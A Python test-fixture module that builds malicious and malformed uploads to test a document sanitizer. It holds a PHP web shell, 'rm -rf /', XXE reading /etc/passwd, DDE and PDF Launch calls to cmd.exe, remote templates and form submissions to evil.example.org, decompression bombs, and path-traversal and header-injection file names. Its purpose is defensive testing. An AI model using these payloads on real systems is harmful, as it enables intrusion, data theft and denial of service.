"""Sixty and more files that attack whoever takes or opens them, or are merely broken, each made here.

`files` says for each: its name, its content, and what is said when it is refused; an empty saying
means that it is taken and made harmless (see `LEFT` for what must not be left of it).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image, PngImagePlugin

from tests.documents import samples

SECRET = b"Jalan-Secret-70A"
_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- archives -------------------------------------------------------------------------


def related(kind: str, target: str, *, outside: str = "External", main: str = samples._WORD) -> bytes:
    mode = f' TargetMode="{outside}"' if outside else ""
    rel = _RELS.format(f'<Relationship Id="r1" Type="{_KIND}/{kind}" Target="{target}"{mode}/>')
    return samples.office(main, **{"word/_rels/document.xml.rels": rel})


def packed(*, bomb: bytes = b"", says: int | None = None, name: str = "word/media/a.bin") -> bytes:
    """A DOCX with one deflated part that may be larger than it says."""
    content = io.BytesIO(samples.DOCX)
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(name, bomb)
    whole = bytearray(content.getvalue())
    if says is not None:
        for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            start = whole.rindex(sign)
            struct.pack_into("<L", whole, start + at, says)
            # The check sum of what a trusting reader would see.
            struct.pack_into("<L", whole, start + at - 8, zlib.crc32(bomb[:says]))
    return bytes(whole)


def locked_part() -> bytes:
    whole = bytearray(samples.DOCX)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = whole.index(sign)
        whole[start + at] |= 1
    return bytes(whole)


def embedding(content: bytes, name: str = "word/embeddings/oleObject1.bin") -> bytes:
    whole = io.BytesIO(samples.DOCX)
    with zipfile.ZipFile(whole, "a") as archive:
        archive.writestr(name, content)
    return whole.getvalue()


def typed(more: str, main: str = samples._WORD) -> bytes:
    listed = f'<Types><Override PartName="/main.xml" ContentType="{main}"/>{more}</Types>'
    return samples.archive({"[Content_Types].xml": listed, "main.xml": "<x/>"})


def doctype(encoding: str = "utf-8") -> bytes:
    listed = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Types><Override ContentType="{samples._WORD}"/></Types>'
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        archive.writestr("[Content_Types].xml", listed.encode(encoding))
    return whole.getvalue()


def nested(depth: int) -> bytes:
    content = samples.XLSX
    for _n in range(depth):
        content = embedding(content, "word/embeddings/chart.xlsx")
    return content


def field(inside: str, encoding: str = "utf-8") -> bytes:
    """A DOCX whose text is this."""
    text = f'<?xml version="1.0" encoding="{encoding}"?><w:p>{inside}</w:p>'.encode(encoding)
    return embedding(text, "word/document.xml")


def bombs() -> bytes:
    """A DOCX with three files in it, each within the limits, and together not."""
    one = packed(bomb=b"\0" * (90 << 20))
    whole = io.BytesIO(samples.DOCX)
    with zipfile.ZipFile(whole, "a", zipfile.ZIP_DEFLATED) as archive:
        for n in range(3):
            archive.writestr(f"word/embeddings/{n}.xlsx", one)
    return whole.getvalue()


# --- PDFs -----------------------------------------------------------------------------


def pdf(change, **how) -> bytes:
    with pikepdf.open(io.BytesIO(samples.PDF)) as opened:
        change(opened)
        content = io.BytesIO()
        opened.save(content, **how)
    return content.getvalue()


def _acts(**action):
    def change(opened):
        opened.Root.OpenAction = pikepdf.Dictionary({f"/{key}": value for key, value in action.items()})

    return change


def _on_page(**action):
    def change(opened):
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
        link.A = pikepdf.Dictionary({f"/{key}": value for key, value in action.items()})
        opened.pages[0].Annots = pikepdf.Array([link])

    return change


def opened_at_a_page_with_a_link(opened):
    _on_page(S=pikepdf.Name.URI, URI="https://asean.org")(opened)
    opened.Root.OpenAction = pikepdf.Array([opened.pages[0].obj, pikepdf.Name.Fit])


def _opens(**action):
    """What a reader's program does by itself when a page is shown, after something harmless."""

    def change(opened):
        then = pikepdf.Dictionary({f"/{key}": value for key, value in action.items()})
        first = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=pikepdf.Array([then]))
        opened.pages[0].AA = pikepdf.Dictionary(O=opened.make_indirect(first))

    return change


def _page_from_elsewhere(opened):
    form = opened.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
    form.Ref = pikepdf.Dictionary(F="//evil.example.org/a.pdf", Page=0)
    opened.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=form))


def _named_script(opened):
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    names = pikepdf.Array(["x", opened.make_indirect(script)])
    opened.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def _carries(opened):
    opened.attachments["setup.exe"] = b"MZ"


def _attached_to_page(opened):
    spec = pikepdf.AttachedFileSpec(opened, b"MZ", filename="a.exe").obj
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    opened.pages[0].Annots = pikepdf.Array([opened.make_indirect(note)])


def _xfa(opened):
    opened.Root.AcroForm = pikepdf.Dictionary(XFA=opened.make_stream(b"<xdp/>"), Fields=[])


def _hidden_in_stream(opened):
    opened.Root.OpenAction = opened.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def _from_elsewhere(opened):
    stream = opened.make_stream(b"")
    stream.F = "//evil.example.org/a"
    opened.pages[0].Contents = stream


def _nothing(_opened):
    pass


def escaped_script() -> bytes:
    """The word JavaScript written in hexadecimal, which a search for it misses."""
    action = b"/OpenAction<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>"
    return samples.PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + action)


def object_bomb() -> bytes:
    """Objects packed into a stream that unpacks to three gigabytes."""
    squeeze = zlib.compressobj(9)
    head, block = (
        squeeze.flush(zlib.Z_FULL_FLUSH),
        squeeze.compress(b" " * (1 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH),
    )
    body = head + block * (3 << 10) + squeeze.flush()
    head = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    holder = b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body)
    at = len(head)
    rows = [(0, 0, 65535), (1, 9, 0), (2, 4, 0), (0, 0, 0), (1, at, 0), (1, at + len(holder) + len(body) + 18, 0)]
    table = b"".join(struct.pack(">BLH", *row) for row in rows)
    cross = b"5 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    end = b"\nendstream\nendobj\n"
    whole = head + holder + body + end
    return whole + cross + table + end + b"startxref\n%d\n%%%%EOF\n" % len(whole)


# --- images ---------------------------------------------------------------------------


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = SECRET.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (6.0, 10.0, 0.0), 3: "E", 4: (106.0, 49.0, 0.0), 29: SECRET.decode()})
    return exif


def image(kind: str, size: tuple[int, int] = (40, 30), **how) -> bytes:
    content = io.BytesIO()
    picture = Image.linear_gradient("L").resize(size).convert("RGB")
    picture.save(content, kind, **how)
    return content.getvalue()


def located_png() -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Location", SECRET.decode())
    said.add_itxt("XML:com.adobe.xmp", SECRET.decode(), zip=False)
    return image("PNG", exif=_exif(), pnginfo=said)


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_says(width: int, height: int, body: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")


def jpeg_says(width: int, height: int) -> bytes:
    whole = bytearray(image("JPEG"))
    struct.pack_into(">HH", whole, whole.index(b"\xff\xc0") + 5, height, width)
    return bytes(whole)


def text_bomb() -> bytes:
    whole = image("PNG")
    return whole[:33] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"x" * (40 << 20), 9)) + whole[33:]


def segment(marker: int, body: bytes) -> bytes:
    whole = image("JPEG")
    return whole[:2] + struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body + whole[2:]


# --- all of them ----------------------------------------------------------------------

_NAME = pikepdf.Name
_ARCHIVE, _OBJECTS, _ELSEWHERE, _BOMB = (
    "archive or a damaged",
    "embedded in it",
    "from elsewhere",
    "unpacks to far more",
)
_SCRIPT, _ACT, _FILES, _DAMAGED, _NOT = "JavaScript", "starts something", "carries other files", "damaged", "not a PDF"


def files() -> dict[str, tuple[str, Callable[[], bytes], str]]:
    """Return them by a word for each: name, what makes its content, what is said."""
    docx, png, jpeg = samples.DOCX, image("PNG"), image("JPEG")
    return {
        # what they are not
        "html as pdf": ("survey.pdf", lambda: samples.HTML, _NOT),
        "html as png": ("map.png", lambda: samples.HTML, _NOT),
        "svg": ("map.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', _NOT),
        "svg as png": ("map.png", lambda: b"<?xml version='1.0'?><svg><script>alert(1)</script></svg>", _NOT),
        "program as pdf": ("setup.pdf", lambda: b"MZ" + b"\0" * 400, _NOT),
        "elf as jpeg": ("photo.jpg", lambda: b"\x7fELF" + b"\0" * 400, _NOT),
        "shell script": ("a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", _NOT),
        "php as jpeg": ("a.jpg", lambda: b"<?php system($_GET['c']);", _NOT),
        "gif": ("a.gif", lambda: b"GIF89a" + b"\0" * 40, _NOT),
        "windows link": ("a.pdf", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, _NOT),
        "rtf as docx": ("a.docx", lambda: rb"{\rtf1{\object\objdata 0105}}", _NOT),
        "nothing": ("a.pdf", lambda: b"", "empty"),
        "one byte": ("a.pdf", lambda: b"%", _NOT),
        "26 MB": ("a.pdf", lambda: samples.PDF + b"\0" * (26 << 20), "the most is 25 MB"),
        "zeroes": ("a.png", lambda: b"\0" * 4096, _NOT),
        # two kinds at once
        "pdf and archive": ("a.pdf", lambda: samples.PDF + samples.ZIP, "an archive in one"),
        "pdf behind html": ("a.pdf", lambda: samples.HTML + samples.PDF, _NOT),
        "archive behind png": ("a.png", lambda: png + samples.ZIP, ""),
        "html behind jpeg": ("a.jpg", lambda: jpeg + SECRET + samples.HTML, ""),
        "php in a jpeg's comment": ("a.jpg", lambda: segment(0xFE, b"<?php " + SECRET), ""),
        "html in a png's text": ("a.png", lambda: png[:33] + chunk(b"tEXt", b"Comment\0<script>" + SECRET) + png[33:], ""),
        "program in front of docx": ("a.docx", lambda: b"MZ" + docx, _NOT),
        # archives and Office
        "plain archive": ("a.docx", lambda: samples.ZIP, "not a DOCX"),
        "jar": ("a.docx", lambda: samples.archive({"META-INF/MANIFEST.MF": "Main-Class: A"}), "not a DOCX"),
        "presentation": ("a.docx", lambda: typed("", "application/vnd.ms-powerpoint.presentation.main+xml"), "not a DOCX"),
        "bomb": ("a.docx", lambda: packed(bomb=b"\0" * (260 << 20)), _BOMB),
        "bomb that lies": ("a.docx", lambda: packed(bomb=b"\0" * (30 << 20), says=100), _BOMB),
        "huge declared size": ("a.docx", lambda: packed(bomb=b"x", says=0xFFFFFFF0), _BOMB),
        "6000 parts": ("a.docx", lambda: samples.office(samples._WORD, **{f"w/{n}": "" for n in range(6000)}), _BOMB),
        "archive in archive in archive": ("a.docx", lambda: nested(4), _OBJECTS),
        "macro document": ("a.docx", lambda: samples.DOCM, "macros"),
        "macro document by its name": ("a.docm", lambda: samples.DOCM, "macros"),
        "hidden macros": ("a.docx", lambda: samples.HIDDEN_MACRO, "macros"),
        "macros in capitals": ("a.docx", lambda: samples.office(samples._WORD, **{"word/VBAPROJECT.BIN": "x"}), "macros"),
        "macros in the embedded": ("a.docx", lambda: embedding(samples.HIDDEN_MACRO, "word/embeddings/a.xlsx"), "macros"),
        "embedded object": ("a.docx", lambda: embedding(samples.OLD_WORD), _OBJECTS),
        "embedded object in xlsx": ("a.xlsx", lambda: related("oleObject", "embeddings/a.bin", outside="", main=samples._SHEET), _OBJECTS),
        "activex": ("a.docx", lambda: typed('<Default ContentType="application/vnd.ms-office.activeX"/>'), _OBJECTS),
        "template from elsewhere": ("a.docx", lambda: related("attachedTemplate", "https://evil.example.org/a.dotm"), _ELSEWHERE),
        "object from elsewhere": ("a.docx", lambda: related("oleObject", "mhtml:https://evil.example.org/x!x-usc:"), _ELSEWHERE),
        "picture from elsewhere": ("a.docx", lambda: related("image", "//evil.example.org/a.png"), _ELSEWHERE),
        "picture from elsewhere in small letters": ("a.docx", lambda: related("image", "//evil.example.org/a.png", outside="external"), _ELSEWHERE),
        "picture that a field fetches": ("a.docx", lambda: field('<w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example.org/a.png"/>'), _ELSEWHERE),
        "text that a field fetches": ("a.docx", lambda: field("<w:instrText>IncludeText //evil.example.org/a.docx</w:instrText>"), _ELSEWHERE),
        "page of the web in a text": ("a.docx", lambda: related("aFChunk", "a.html", outside=""), _OBJECTS),
        "program beside a text": ("a.docx", lambda: related("webextensiontaskpanes", "webextensions/taskpanes.xml", outside=""), _OBJECTS),
        "figures that a workbook fetches": ("a.xlsx", lambda: typed('<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>', samples._SHEET), _ELSEWHERE),
        "workbook from elsewhere": ("a.xlsx", lambda: typed('<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>', samples._SHEET), _ELSEWHERE),
        "command in a field": ("a.docx", lambda: samples.office(samples._WORD, **{"word/document.xml": "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:p>"}), _ELSEWHERE),
        "command under another prefix": ("a.docx", lambda: field("<x:instrText>DDEAUTO c</x:instrText>"), _ELSEWHERE),
        "command in references": ("a.docx", lambda: field("<w:instrText>&#68;&#x44;E c</w:instrText>"), _ELSEWHERE),
        "command in a section of its own": ("a.docx", lambda: field("<w:instrText><![CDATA[DDE c]]></w:instrText>"), _ELSEWHERE),
        "command in single quotes": ("a.docx", lambda: field("<w:fldSimple w:instr='DDE c'/>"), _ELSEWHERE),
        "command behind another": ("a.docx", lambda: field("<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DDE c</w:instrText>"), _ELSEWHERE),
        "command in utf-16": ("a.docx", lambda: field("<w:instrText>DDEAUTO c</w:instrText>", "utf-16"), _ELSEWHERE),
        "commands without an end": ("a.docx", lambda: field("<w:instrText" * 400_000), _ARCHIVE),
        "bombs side by side": ("a.docx", bombs, _BOMB),
        "entities": ("a.docx", doctype, _ARCHIVE),
        "entities in utf-16": ("a.docx", lambda: doctype("utf-16"), _ARCHIVE),
        "password on a part": ("a.docx", locked_part, "password"),
        "password on the whole": ("a.docx", lambda: samples.OLD_WORD, "password"),
        "half a docx": ("a.docx", lambda: docx[: len(docx) // 2], _ARCHIVE),
        "the same part twice": ("a.docx", lambda: embedding(b"<x/>", "twin.xml").replace(b"twin.xml", b"main.xml"), _ARCHIVE),
        # PDF
        "script on opening": ("a.pdf", lambda: pdf(_acts(S=_NAME.JavaScript, JS="app.alert(1)")), _SCRIPT),
        "script by name": ("a.pdf", lambda: pdf(_named_script), _SCRIPT),
        "script behind a link": ("a.pdf", lambda: pdf(_on_page(S=_NAME.JavaScript, JS="app.alert(1)")), _SCRIPT),
        "script in packed objects": ("a.pdf", lambda: pdf(_hidden_in_stream, object_stream_mode=pikepdf.ObjectStreamMode.generate), _SCRIPT),
        "script in hexadecimal": ("a.pdf", escaped_script, _SCRIPT),
        "starts a program": ("a.pdf", lambda: pdf(_acts(S=_NAME.Launch, F="cmd.exe")), _ACT),
        "sends a form": ("a.pdf", lambda: pdf(_on_page(S=_NAME.SubmitForm, F="https://evil.example.org")), _ACT),
        "opens an embedded file": ("a.pdf", lambda: pdf(_acts(S=_NAME.GoToE)), _ACT),
        "opens a file elsewhere": ("a.pdf", lambda: pdf(_acts(S=_NAME.GoToR, F="//evil.example.org/a.pdf")), _ACT),
        "leads to a file elsewhere": ("a.pdf", lambda: pdf(_on_page(S=_NAME.GoToR, F="//evil.example.org/a.pdf")), _ACT),
        "leads to a thread elsewhere": ("a.pdf", lambda: pdf(_on_page(S=_NAME.Thread, F="//evil.example.org/a.pdf")), _ACT),
        "opens a page of the web": ("a.pdf", lambda: pdf(_acts(S=_NAME.URI, URI="https://evil.example.org/?who")), _ACT),
        "opens a page of the web in the end": ("a.pdf", lambda: pdf(_opens(S=_NAME.URI, URI="https://evil.example.org")), _ACT),
        "script for an address": ("a.pdf", lambda: pdf(_on_page(S=_NAME.URI, URI=" JavaScript:alert(1)")), _ACT),
        "file for an address": ("a.pdf", lambda: pdf(_on_page(S=_NAME.URI, URI="file://evil.example.org/a")), _ACT),
        "a page from elsewhere": ("a.pdf", lambda: pdf(_page_from_elsewhere), _FILES),
        "carries a program": ("a.pdf", lambda: pdf(_carries), _FILES),
        "a file pinned to a page": ("a.pdf", lambda: pdf(_attached_to_page), _FILES),
        "content from elsewhere": ("a.pdf", lambda: pdf(_from_elsewhere), _FILES),
        "xfa": ("a.pdf", lambda: pdf(_xfa), "XFA"),
        "password": ("a.pdf", lambda: pdf(_nothing, encryption=pikepdf.Encryption(user="a", owner="b")), "password"),
        "protected from copying": ("a.pdf", lambda: pdf(_nothing, encryption=pikepdf.Encryption(user="", owner="b")), "password"),
        "half a pdf": ("a.pdf", lambda: samples.PDF[: len(samples.PDF) // 2], "before its end"),
        "no pages": ("a.pdf", lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", _DAMAGED),
        "pages in a circle": ("a.pdf", lambda: samples.PDF.replace(b"Kids[3 0 R]", b"Kids[2 0 R]"), _DAMAGED),
        "object bomb": ("a.pdf", object_bomb, "cannot be checked|damaged"),
        # images
        "location in a photograph": ("a.jpg", lambda: image("JPEG", exif=_exif()), ""),
        "location in a png": ("a.png", located_png, ""),
        "xmp and iptc": ("a.jpg", lambda: segment(0xED, b"Photoshop 3.0\0" + SECRET), ""),
        "a second picture with its own location": ("a.jpg", lambda: jpeg + image("JPEG", exif=_exif()), ""),
        "image bomb": ("a.png", lambda: png_says(60_000, 60_000), "50 million points"),
        "jpeg bomb": ("a.jpg", lambda: jpeg_says(65_000, 65_000), "50 million points"),
        "text bomb in a png": ("a.png", text_bomb, ""),
        "png without points": ("a.png", lambda: png_says(0, 0), _DAMAGED),
        "png that says more than it holds": ("a.png", lambda: png_says(3000, 3000, b"\0" * 100), _DAMAGED),
        "half a photograph": ("a.jpg", lambda: jpeg[: len(jpeg) // 2], _DAMAGED),
        "half a png": ("a.png", lambda: png[: len(png) // 2], _DAMAGED),
        "broken check sum": ("a.png", lambda: png[:30] + b"\xff" + png[31:], _DAMAGED),
        # names
        "turned name": ("ann\u202efdp.exe", lambda: samples.PDF, "ending"),
        "turned name that ends well": ("ann\u202egpj.pdf", lambda: samples.PDF, ""),
        "control signs": ("a\x07b\x1b[2J.pdf", lambda: samples.PDF, ""),
        "300 characters": ("x" * 300 + ".pdf", lambda: samples.PDF, ""),
        "path": ("../../../etc/cron.d/a.pdf", lambda: samples.PDF, ""),
        "windows path": ("..\\..\\Windows\\a.pdf", lambda: samples.PDF, ""),
        "reserved name": ("CON.pdf", lambda: samples.PDF, ""),
        "stream of another file": ("a.exe::$DATA.pdf", lambda: samples.PDF, ""),
        "quotation marks and a new line": ('a".html\r\nX-Evil: 1.pdf', lambda: samples.PDF, ""),
        "two endings": ("survey.pdf.exe", lambda: samples.PDF, "ending"),
        "no ending": ("survey", lambda: samples.PDF, "no ending"),
        "markup": ("<img src=x onerror=alert(1)>.pdf", lambda: samples.PDF, ""),
    }  # fmt: skip


# What must not be left of a file that was taken.
LEFT = (SECRET, b"<script", b"<?php", b"PK\x03\x04", b"\x88%")
